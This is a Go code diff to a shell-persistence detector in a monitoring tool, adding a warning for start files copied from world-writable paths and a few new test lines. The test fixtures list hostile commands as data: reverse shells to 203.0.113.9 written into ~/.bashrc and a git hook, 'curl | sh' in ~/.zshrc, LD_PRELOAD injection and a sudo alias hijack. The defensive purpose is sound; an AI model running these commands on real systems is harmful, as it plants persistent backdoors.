@@ -2,11 +2,13 @@ package detect
 
 import (
 	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
 	"github.com/code-on-incus/coi/pkg/coi"
 )
@@ -31,8 +33,8 @@ var persistRC = Detector{
 		})(ev, v)
 	},
 	Fire: append(lines(coi.High, "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > .git/hooks/pre-commit", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
-		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc")...),
-	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "echo 'npx lint-staged' > .husky/pre-commit", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT"),
+		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc", "sudo install -m 755 /tmp/e.sh /etc/profile.d/e.sh")...),
+	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "echo 'npx lint-staged' > .husky/pre-commit", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT", "echo 'ulimit -c 0' >> ~/.bashrc"),
 }
 
 var (
@@ -60,6 +62,9 @@ func rcLevel(w written) (coi.Level, string) {
 	}
 	if rcOdd.MatchString(w.text) {
 		return coi.Warning, "start file of a shell reads a file that anybody may write"
+	}
+	if w.s != nil && !w.known && w.s.Is("cp", "install", "mv") && slices.ContainsFunc(w.s.Parsed().Rest, program.Writable) {
+		return coi.Warning, "start file of a shell copied from a place that anybody may write"
 	}
 	if !w.known || w.s == nil || w.op == command.Link || w.s.Name == "sed" {
 		return coi.Info, "start file of a shell changed"
